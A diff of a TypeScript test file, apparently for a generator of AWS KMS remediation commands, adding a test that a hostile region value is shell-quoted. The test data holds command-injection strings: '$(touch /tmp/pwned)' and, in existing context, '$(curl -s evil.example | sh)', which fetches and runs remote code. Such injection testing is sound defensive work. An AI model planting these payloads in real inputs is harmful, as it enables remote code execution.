@@ -243,6 +243,20 @@ describe('Remediation with hostile values', () => {
     expect(argAfter(command, '--tags')).toBe(`TagKey=owner,TagValue=${HOSTILE}`);
   });
 
+  it('shell-quotes a hostile Region taken from the record', () => {
+    // Prepare: the key is named by id, so its ARN (and the command's --region) comes from awsRegion.
+    const region = 'us-east-1 $(touch /tmp/pwned)';
+    const disable = rec('DisableKey__awskmsdg__1', (r) => {
+      r.awsRegion = region;
+      delete r.resources;
+      (r.requestParameters as Record<string, unknown>).keyId = '1234abcd-12ab-34cd-56ef-1234567890ab';
+    });
+    // Act
+    const [command] = remediationOf([disable]);
+    // Assess: the shell sees the whole Region as one argument, and nothing runs.
+    expect(argAfter(command, '--region')).toBe(region);
+  });
+
   it('shell-quotes a hostile tag key that has to be removed', () => {
     const tagKey = '$(curl -s evil.example | sh)';
     const records = [
